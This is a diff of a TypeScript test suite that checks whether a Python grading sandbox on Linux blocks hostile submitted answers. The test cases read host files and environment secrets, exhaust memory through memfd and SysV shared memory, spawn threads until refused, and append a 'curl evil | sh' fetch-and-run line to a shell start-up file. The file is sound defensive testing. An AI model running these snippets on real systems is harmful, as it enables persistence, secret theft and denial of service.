@@ -12,8 +12,8 @@ import { after, before, test } from "node:test";
 import { createGrader } from "../../../src/core/grading/index.js";
 import { createPythonGrader } from "../../../src/core/grading/python-grader.js";
 import { SkillFollowingError } from "../../../src/core/errors.js";
-import { probeNativePython } from "../../../src/core/sandbox/native.js";
-import { addReturning, addTask, hostileCases, secretTask, startHarness, tagReturning, type Case, type Harness } from "./hostile-support.js";
+import { NATIVE_CAPS, probeNativePython } from "../../../src/core/sandbox/native.js";
+import { addReturning, addTask, hostileCases, secretTask, startHarness, tagReturning, uncached, WRONG, type Case, type Harness } from "./hostile-support.js";
 
 const linux = process.platform === "linux";
 
@@ -55,7 +55,7 @@ const cases: Case[] = [
   { name: "connects to a pathname Unix socket of the host", code: "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(SOCK)\n" + addReturning("a + b"), reason: /PermissionError|Operation not permitted/ },
   { name: "reads a host file", code: "data = open(TMP + '/secret.txt').read()\n" + addReturning("data"), reason: /FileNotFoundError/ },
   { name: "appends to a shell start-up file of the host", code: "open(TMP + '/profile', 'a').write('curl evil | sh\\n')\n" + addReturning("a + b"), reason: /FileNotFoundError|Read-only/ },
-  { name: "appends to the interpreter's own library (what every later process imports)", code: "import os\nopen(os.__file__, 'a').write('x = 1\\n')\n" + addReturning("a + b"), reason: /Read-only file system/ },
+  { name: "appends to the interpreter's own library (what every later process imports)", code: "import os\nopen(os.__file__, 'a').write('x = 1\\n')\n" + addReturning("a + b"), reason: /Read-only file system|Permission denied/ },
   { name: "fills the private /tmp", code: "def add(a, b):\n    with open('/tmp/fill', 'wb') as f:\n        while True:\n            f.write(b'x' * (1 << 20))", reason: /No space left on device|File too large/ },
   // bubblewrap starts from an empty environment; Python adds LC_CTYPE (locale coercion) and bubblewrap PWD.
   { name: "reads the host's environment (keys, tokens, paths)", code: "import os\nleft = sorted(k for k in os.environ if k not in ('LC_CTYPE', 'PWD', 'ELECTRON_RUN_AS_NODE'))\n" + addReturning("'env:' + ','.join(left)"), reason: /got 'env:'/ },
@@ -67,9 +67,44 @@ const cases: Case[] = [
   { name: "starts threads until it cannot", code: "import threading, time\ndef add(a, b):\n    ts = []\n    while True:\n        t = threading.Thread(target=time.sleep, args=(100,), daemon=True)\n        t.start()\n        ts.append(t)", reason: /RuntimeError: can't start new thread|MemoryError|out of memory|^timeout/ },
   { name: "exits the interpreter", code: "import sys\ndef add(a, b):\n    sys.exit(0)", reason: /SystemExit/ },
   { name: "kills its own process from C", code: "import os, signal\ndef add(a, b):\n    os.kill(os.getpid(), signal.SIGKILL)", reason: /sandbox process ended|killed|signal/ },
+  // --- caps that count what the RSS watch does not see ---
+  {
+    name: "fills memfd files, shared memory the RSS watch does not see",
+    code: "import os\ndef add(a, b):\n    held, fds = 0, []\n    try:\n        while held < 1024:\n            fd = os.memfd_create('x')\n            fds.append(fd)\n            os.write(fd, b'x' * (16 << 20))\n            held += 16\n    except OSError as e:\n        return 'memfd=%dMB %s' % (held, e.strerror)\n    return 'memfd=%dMB' % held",
+    reason: /got 'memfd=0MB Operation not permitted'/,
+  },
+  {
+    name: "fills SysV shared memory through ctypes (attach, touch, detach)",
+    code: libc + "libc.shmat.restype = ctypes.c_void_p\ndef add(a, b):\n    held = 0\n    while held < 1024:\n        sid = libc.shmget(0, 16 << 20, 0o1600)\n        if sid < 0:\n            return 'shm=%dMB errno=%d' % (held, ctypes.get_errno())\n        p = libc.shmat(sid, None, 0)\n        ctypes.memset(p, 1, 16 << 20)\n        libc.shmdt(ctypes.c_void_p(p))\n        held += 16\n    return 'shm=%dMB' % held",
+    reason: /got 'shm=0MB errno=1'/,
+  },
+  { name: "opens a POSIX message queue", code: libc + `r = libc.syscall(${nr(240, 180)}, b'q', 0o100 | 2, 0o600, None)\n` + addReturning("'mq=%d errno=%d' % (r, ctypes.get_errno())"), reason: /got 'mq=-1 errno=1'/ },
+  { name: "writes to /dev/shm", code: "def add(a, b):\n    with open('/dev/shm/fill', 'wb') as f:\n        f.write(b'x' * (1 << 20))", reason: /Read-only file system|No such file|Permission denied/ },
+  {
+    name: "lists the descriptors it was started with",
+    code: "import os\ndef add(a, b):\n    fds = sorted(int(f) for f in os.listdir('/proc/self/fd'))\n    return 'fds=' + ','.join(map(str, fds))",
+    // 0-2, the protocol's private copy of fd 1 (3) and the listing's own descriptor (4): nothing inherited.
+    reason: /got 'fds=0,1,2,3,4'/,
+  },
 ].map((c) => ({ ...c, only: "native" as const }));
 
 if (linux) hostileCases("hostile answers", () => h, cases, ["native"]);
+
+test("an answer that starts threads until refused holds at most the documented task cap, with a reason naming it; the next answer runs normally", { skip: linux ? false : "Linux only" }, async () => {
+  const grader = h.graders.native!;
+  const code = "import threading, time\ndef add(a, b):\n    threading.stack_size(32768)\n    n, why = 0, ''\n    try:\n        while n < 100000:\n            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()\n            n += 1\n    except RuntimeError as e:\n        why = str(e)\n    return 'threads=%d %s' % (n, why)";
+  const verdict = await grader.grade(addTask, uncached(code));
+  const m = /got ["']threads=(\d+) (.*)["'] \(stopped/.exec(verdict.reason);
+  assert.ok(m, verdict.reason);
+  assert.ok(Number(m[1]) > 0 && Number(m[1]) < NATIVE_CAPS.tasks, `held ${m[1]} threads, cap ${NATIVE_CAPS.tasks} tasks`);
+  assert.ok(m[2]!.includes(`can't start new thread: the sandbox's cap of ${NATIVE_CAPS.tasks} tasks per answer (RLIMIT_NPROC)`), m[2]);
+  // A thread pool within the cap works, and the next answers are graded as usual.
+  const pool = "from concurrent.futures import ThreadPoolExecutor\ndef add(a, b):\n    with ThreadPoolExecutor(16) as ex:\n        return list(ex.map(lambda _: a + b, range(32)))[-1]\n";
+  const pooled = await grader.grade(addTask, uncached(pool));
+  assert.equal(pooled.pass, true, pooled.reason);
+  assert.equal((await grader.grade(addTask, uncached(WRONG))).pass, false);
+  assert.equal((await grader.grade(addTask, uncached(addTask.canonicalSolution))).pass, true);
+});
 
 test("the CPython runtime is recorded as such: isolation native-confined, and its verdicts and expected outputs are cached apart from Pyodide's", { skip: linux ? false : "Linux only" }, async () => {
   const native = h.graders.native!;
